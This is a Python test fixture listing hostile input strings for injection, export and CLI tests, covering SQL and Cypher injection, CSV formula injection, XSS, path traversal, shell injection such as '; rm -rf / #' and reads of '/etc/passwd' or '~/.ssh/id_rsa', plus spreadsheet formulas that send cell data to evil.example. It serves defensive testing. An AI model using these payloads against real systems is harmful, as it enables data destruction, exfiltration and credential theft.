"""Hostile strings shared by the injection, export and CLI suites.

``HOSTILE``: every string (the original injection list first, in its original
order, so that ``test_injection``'s ids ``h00`` ... stay the same strings),
then spreadsheet formulas (OWASP CSV injection), XSS, path traversal, format
strings, SQL / Cypher injection, control characters, Unicode oddities,
JSON / YAML / TOML and CSV breakers. ``FORMULAS``: the spreadsheet-formula
strings alone, for the export tests. Hosts are ``evil.example`` /
``example.invalid`` only (reserved names; nothing here points anywhere real).
"""
from __future__ import annotations

U1 = "91330503735242721D"

ORIGINAL = [
    "' OR 1=1 //",
    '"}) MATCH (n) DETACH DELETE n //',
    "') DETACH DELETE n //",
    "x'}) MATCH (n) SET n.name = 'pwned' RETURN n //",
    "MATCH (n) DETACH DELETE n",
    "1; DROP TABLE Enterprise; --",
    "' UNION SELECT * FROM users --",
    "\\' OR \\'1\\'=\\'1",
    f"{U1}' OR '1'='1",
    "ID:zs' OR 1=1 //",
    "`Enterprise`",
    "``) RETURN 1 //",
    "$uid",
    "{uid: 'x'}",
    "CALL db.labels()",
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    "COPY Enterprise FROM '/tmp/x.csv'",
    "${jndi:ldap://example.invalid/a}",
    "%s%s%n{0}{1}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "\u0000",
    "a\u0000b",
    "\x01\x02\x03\x1b[31m\x7f",
    "\r\n\t",
    "\\u0000",
    "x" * 1_000_000,  # 1 MB
    "张" * 350_000,  # 1 MB of UTF-8
    "\u202e司公限有\u202c",  # right-to-left override
    "张\u200b三\u200d",  # zero-width characters
    "\ufeff" + U1,  # byte-order mark
    "\u0301\u0301\u0301",  # lone combining marks
    "张三".encode("gbk").decode("latin-1"),  # GB18030/GBK bytes read as Latin-1: 'ÕÅÈý'
    "张三".encode("utf-8").decode("cp1252", "replace"),  # UTF-8 read as cp1252
    "锟斤拷烫烫烫",  # the classic mojibake
    "\udcd5\udcc5",  # lone surrogates (surrogateescape of undecodable bytes)
    "😀" * 20,
    "",
    "   ",
    "*",
    ".*",
    "NaN",
]

# OWASP CSV injection: a cell starting with = + - @ tab CR (or the full-width forms) may run as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")公司',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",  # full-width equals sign
    "＋1+2",
    "－1+2",
    "＠SUM(1+1)",
    "   =cmd|'/C calc'!A0",
    "=cmd|'/C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    '=IMPORTXML("http://evil.example/x","//a")',
    '=IMPORTDATA("http://evil.example/x.csv")',
    '=WEBSERVICE("http://evil.example/?d="&A1)',
    "=2+5+cmd|' /C calc'!A0",
    "=SUM(A1:A9)",
    "=A1",
    "+1",
    "-1+1",
    "@A1",
    '=HYPERLINK("javascript:alert(1)","x")',
    "=湖州某某贸易有限公司",
]

XSS = [
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '"><svg onload=alert(1)>',
    "'><script>alert(document.cookie)</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"http://evil.example\">点我</a>",
    "{{7*7}}",
    "<!--",
    "]]><x>",
]

PATHS = [
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/shadow",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%00/etc/passwd",
    "\\\\example.invalid\\share\\x",
    "~/.ssh/id_rsa",
    "CON",
]

FORMATS = [
    "%d%d%d%x%p",
    "{0.__class__.__mro__}",
    "{!r:>99999999}",
    "%(name)s",
    "$(touch /tmp/pwned)",
    "`id`",
    "; rm -rf / #",
    "| cat /etc/passwd",
]

QUERIES = [
    "' OR '1'='1' --",
    "\"; MATCH (n) DETACH DELETE n; //",
    "1 OR 1=1",
    "' ; CALL db.clearQueryCaches() //",
    "MERGE (x:Enterprise {uid:'pwn'})",
    "/* */ RETURN 1",
    "0x27 OR 1=1",
    "admin'--",
]

CONTROL = [
    "\x08\x08\x08退格",
    "a\x0bb\x0cc",
    "\x85下一行",
    "\u2028\u2029",
    "\x1b]0;title\x07",
    "\x00" * 16,
]

UNICODE = [
    "\u200e\u200f\u202a\u202b\u202d",  # bidi marks
    "Z̵̢̛̛̹͎̈́͌a̶l̷g̸o̴",  # stacked combining marks
    "👨‍👩‍👧‍👦🏳️‍🌈",  # ZWJ sequences
    "\ud83d",  # lone high surrogate
    "\U0010ffff\ufffe\uffff",  # non-characters
    "ｆｕｌｌｗｉｄｔｈ　公司",
    "𠀀𠀁𪚥",  # CJK extension B (astral)
    "İıſK",  # case-mapping oddities
    "\u00ad软\u00ad连字符",
    "a" * 10_000,
    "公" * 70_000,
]

BREAKERS = [
    '{"a": 1, "b": [}',
    '"\\"',
    "key: [unclosed",
    "- !!python/object/apply:os.system ['id']",
    "a = \"\"\"",
    "[table]\nx=1",
    "yes",
    "null",
    "1e309",
    "-0",
    "a,b,c",
    '"quoted ""inner"" field"',
    "line1\nline2",
    "line1\r\nline2,\"x\"",
    '"',
    ",",
]

HOSTILE = ORIGINAL + FORMULAS + XSS + PATHS + FORMATS + QUERIES + CONTROL + UNICODE + BREAKERS

assert len(set(HOSTILE)) == len(HOSTILE), "duplicate hostile strings"
